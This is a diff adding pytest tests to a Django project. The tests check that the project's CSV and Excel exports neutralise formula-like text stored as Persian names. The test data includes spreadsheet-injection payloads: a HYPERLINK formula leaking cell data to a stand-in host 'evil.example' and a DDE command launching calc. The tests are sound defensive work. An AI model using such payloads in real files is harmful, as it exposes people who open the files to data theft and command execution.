@@ -5,12 +5,19 @@ from __future__ import annotations
 import csv
 import datetime
 import io
+import zipfile
 
 import pytest
 from django.core.management import CommandError, call_command
 from openpyxl import load_workbook
 
-from abadi.core.exports import ExportColumn, export_response, get_export_kind
+from abadi.core.exports import (
+    ExportColumn,
+    csv_text,
+    csv_text_read,
+    export_response,
+    get_export_kind,
+)
 from abadi.people.exports import person_export_columns
 from abadi.people.tests.conftest import VILLAGE_2401, VILLAGE_2403, make_code, make_person
 
@@ -129,3 +136,68 @@ def test_cli_export_finds_the_area_by_name(two_counties, tmp_path):
     call_command("export", "persons", "--format", "csv", "--output", str(out), "--area", "خلخال")
     text = out.read_text(encoding="utf-8-sig")
     assert "اسبویی" in text and "سقزچیی" not in text
+
+
+# Text a hostile user might store as a name, and what a spreadsheet would make of it.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+98 21 1234",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+HOSTILE_ROWS = [{"name": text, "amount": -5_000, "count": -7} for text in HOSTILE]
+HOSTILE_COLUMNS = [
+    ExportColumn("=نام", lambda row: row["name"]),
+    ExportColumn("مبلغ", lambda row: row["amount"], number_format="#,##0"),
+    ExportColumn("تعداد", lambda row: row["count"]),
+]
+
+
+def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
+    response = export_response(
+        rows=HOSTILE_ROWS, columns=HOSTILE_COLUMNS, title="x", fmt="xlsx", filename="x"
+    )
+    data = b"".join(response.streaming_content)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=نام", "s")
+    for line, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
+        name, amount, count = line
+        # XML reads a carriage return back as a line feed; what matters is the cell type.
+        assert (name.value, name.data_type) == (text.replace("\r", "\n"), "s")
+        assert (amount.value, amount.data_type) == (-5_000, "n")
+        assert (count.value, count.data_type) == (-7, "n")
+
+
+def test_csv_neutralises_formula_like_text_and_leaves_numbers_alone():
+    response = export_response(
+        rows=HOSTILE_ROWS, columns=HOSTILE_COLUMNS, title="x", fmt="csv", filename="x"
+    )
+    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[0] == ["'=نام", "مبلغ", "تعداد"]
+    assert lines[1:] == [["'" + hostile, "-5000", "-7"] for hostile in HOSTILE]
+
+
+def test_csv_neutralising_leaves_ordinary_text_alone_and_reads_back():
+    for ordinary in ["علی کریمی", "0912-123-4567", "1401/02/18", "'quoted", ""]:
+        assert csv_text(ordinary) == ordinary
+        assert csv_text_read(ordinary) == ordinary
+    for hostile in HOSTILE:
+        assert csv_text_read(csv_text(hostile)) == hostile
+
+
+def test_cli_export_neutralises_a_hostile_name(areas, tmp_path):
+    make_person(areas[VILLAGE_2403], national_code=make_code(3), first_name="=1+2")
+    out = tmp_path / "persons.csv"
+    call_command("export", "persons", "--format", "csv", "--output", str(out))
+    assert "'=1+2" in out.read_text(encoding="utf-8-sig")
+    out_xlsx = tmp_path / "persons.xlsx"
+    call_command("export", "persons", "--output", str(out_xlsx))
+    sheet = load_workbook(out_xlsx).active
+    header = [cell.value for cell in sheet[1]]
+    name = sheet.cell(row=2, column=header.index("نام") + 1)
+    assert (name.value, name.data_type) == ("=1+2", "s")
